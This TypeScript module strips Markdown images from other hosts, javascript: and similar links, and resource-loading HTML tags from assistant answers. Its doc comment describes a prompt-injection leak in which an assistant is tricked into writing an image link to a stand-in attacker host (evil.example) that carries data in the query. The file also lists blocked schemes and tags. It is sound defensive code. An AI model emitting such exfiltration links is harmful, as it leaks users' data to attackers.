import { mapTexts } from '../../../rules/typed/map-texts.ts';
import { LOOSE_TAG, type MarkdownPart, parseMarkdown } from './parse-markdown.ts';

/**
 * Removes from every text of an answer what Markdown renderers would load, run or follow unasked: images of other sites
 * (`![](https://evil.example/?q=…)` leaks what an assistant was tricked into writing there), script links (`javascript:`),
 * and HTML tags that do either. Link texts and alternative texts stay. Returns the same object if nothing was removed.
 */
export function sanitizeForAssistants<T>(answer: T, publicUrl: string): T {
  return mapTexts(answer, (text) => sanitizeText(text, publicUrl));
}

/** Every one of them contains one of these: a target after brackets, a definition, a tag. */
const SUSPICIOUS = /\]\(|\]:|<[a-z!?/]/i;

// Removal can expose another one: an alternative text may itself be an image.
const MAX_ROUNDS = 5;

/** Does for one text what `sanitizeForAssistants` does for an answer. */
export function sanitizeText(text: string, publicUrl: string): string {
  if (!SUSPICIOUS.test(text)) return text;
  let remaining = text;
  for (let round = 0; round < MAX_ROUNDS; round += 1) {
    const view = parseMarkdown(remaining);
    if (!view) break;
    const replacements = view.parts.map(
      (part) => [part.source, getPartReplacement(part, publicUrl)] as const,
    );
    const changes = new Map(replacements.filter(([, words]) => words !== undefined));
    if (changes.size === 0)
      return escapeUnknownParts(
        remaining,
        [...replacements.map(([source]) => source), ...view.code],
        publicUrl,
      );
    for (const [source, words] of changes)
      remaining = replaceEverywhere(remaining, source, () => words ?? '');
  }
  return escapeMarkup(remaining);
}

/** Returns the replacement of a part; undefined if it may stay. */
function getPartReplacement(
  { kind, source, address, visibleText }: MarkdownPart,
  publicUrl: string,
): string | undefined {
  switch (kind) {
    case 'image':
      return isOwnAddress(address, publicUrl) ? undefined : visibleText;
    case 'link':
    case 'definition':
      return hasActiveScheme(address) ? visibleText : undefined;
    case 'tag':
      return getTagReplacement(source, publicUrl);
  }
}

// Schemes whose content browsers run or render as a page. Other schemes open apps, possibly the product's own.
const ACTIVE_SCHEMES = new Set(
  ['javascript', 'vbscript', 'data', 'blob', 'filesystem', 'file', 'view-source', 'about'].map(
    (name) => `${name}:`,
  ),
);

// Markdown renderers strip more than browsers do: any blank or control character around an address.
const trimAddress = (address: string): string => address.replace(/^[\s\p{Z}\p{C}]+|[\s\p{Z}\p{C}]+$/gu, '');

// Parsed like in a browser, without tabs, line breaks and leading blanks.
const hasActiveScheme = (address: string): boolean =>
  ACTIVE_SCHEMES.has(URL.parse(trimAddress(address))?.protocol ?? '');

// A path that every program resolves on this site: no scheme, no host, no backslash, no blank.
const OWN_PATH = /^(?:[/#?](?![/\\])|[\w.-]+(?![\w.:-]))[^\\\s\p{Z}\p{C}]*$/u;

/** Whether an address is on this site or has no host. An ambiguous address is not. */
function isOwnAddress(address: string, publicUrl: string): boolean {
  if (address.startsWith(`${publicUrl}/`)) return true;
  return address === '' || OWN_PATH.test(address);
}

const LOADING_TAGS = new Set([
  ...[
    'applet',
    'audio',
    'base',
    'embed',
    'form',
    'frame',
    'frameset',
    'iframe',
    'image',
    'img',
    'input',
    'link',
  ],
  ...[
    'math',
    'noscript',
    'object',
    'picture',
    'portal',
    'script',
    'source',
    'style',
    'svg',
    'template',
    'track',
    'video',
  ],
]);
const TAG = /^<\/?([a-z][^\s/>]*)([^]*)$/i;
const ATTRIBUTE = /([^\s"'<>/=]+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]*)/g;
/** Attributes that load and run nothing. */
const SAFE_ATTRIBUTES = new Set([
  'alt',
  'title',
  'width',
  'height',
  'align',
  'class',
  'id',
  'lang',
  'dir',
  'rel',
  'target',
  'name',
  'content',
  'colspan',
  'rowspan',
  'start',
]);

/** Returns the replacement of a tag; undefined if it may stay. */
function getTagReplacement(source: string, publicUrl: string): string | undefined {
  const [, name = '', rest = ''] = TAG.exec(source) ?? [];
  const tag = name.toLowerCase();
  const attributes = [...rest.matchAll(ATTRIBUTE)].map(
    ([, key = '', value = '']) => [key.toLowerCase(), value.replace(/^(["'])([^]*)\1$/, '$2')] as const,
  );
  if (!source.endsWith('>')) return escapeMarkup(source);
  // Prose may mention "the <script> tag". Without attributes, only <style> can load something, through its content.
  if (attributes.length === 0 && tag !== 'style') return undefined;
  const isSafe = attributes.every((attribute) => isSafeAttribute(tag, attribute, publicUrl));
  if (isSafe && (tag === 'img' || !LOADING_TAGS.has(tag))) return undefined;
  if (tag === 'img') return attributes.find(([key]) => key === 'alt')?.[1] ?? '';
  // `a < b and c = d > e` also parses as a tag.
  return tag === 'a' || LOADING_TAGS.has(tag) ? '' : escapeMarkup(source);
}

/** Whether an attribute of a tag loads and runs nothing, or only loads from this site. */
const isSafeAttribute = (
  tag: string,
  [key, value]: readonly [key: string, value: string],
  publicUrl: string,
): boolean =>
  SAFE_ATTRIBUTES.has(key) ||
  (tag === 'a' && key === 'href' && /^(?:https?:\/\/|mailto:|[/#])/i.test(value)) ||
  (tag === 'img' && key === 'src' && value.startsWith(`${publicUrl}/`));

/** Replaces every occurrence of a part in a text, also inside block quotes, lists and tables. */
function replaceEverywhere(text: string, source: string, words: (found: string) => string): string {
  const plain = text.replaceAll(source, words);
  if (plain !== text || !/[\n|]/.test(source)) return plain;
  const lines = source
    .split('\n')
    .map((line, at) => RegExp.escape(at === 0 ? line : line.replace(/^[\s>]+/, '')));
  const pattern = lines.join(String.raw`(?:\r\n?|\n)[ \t>]*`).replaceAll(String.raw`\|`, String.raw`\\?\|`);
  return text.replaceAll(new RegExp(pattern, 'g'), words);
}

/**
 * Escapes whatever other parsers could read as a link or a tag, except the known parts: some parsers allow a blank between
 * bracket and address, none a backslash. Private-use characters, which texts never hold, mark the known parts in between.
 */
function escapeUnknownParts(text: string, known: string[], publicUrl: string): string {
  const parts: string[] = [];
  const mask = (found: string): string => `\uE000${parts.push(found) - 1}\uE001`;
  let rest = text;
  for (const source of new Set(known.toSorted((a, b) => b.length - a.length)))
    if (SUSPICIOUS.test(source)) rest = replaceEverywhere(rest, source, mask);
  if (SUSPICIOUS.test(rest)) {
    const anyPicture = rest.includes('![');
    rest = rest
      .replaceAll('](', ']\\(')
      .replace(/\]:(?=\s*([^\s:&]*[:&])?)/g, (found, leads?: string) =>
        anyPicture || leads ? ']\\:' : found,
      )
      .replace(LOOSE_TAG, (tag) =>
        getTagReplacement(tag, publicUrl) === undefined ? tag : escapeMarkup(tag),
      );
  }
  return rest.replace(/\uE000(\d+)\uE001/g, (_, at: string) => parts[Number(at)] ?? '');
}

/** Escapes a text so that no parser finds a link or a tag: a backslash after the bracket, a blank inside the tag. */
const escapeMarkup = (text: string): string =>
  text.replace(/\](?=[(:])/g, ']\\').replace(/<(?=[a-z!?/])/gi, '< ');
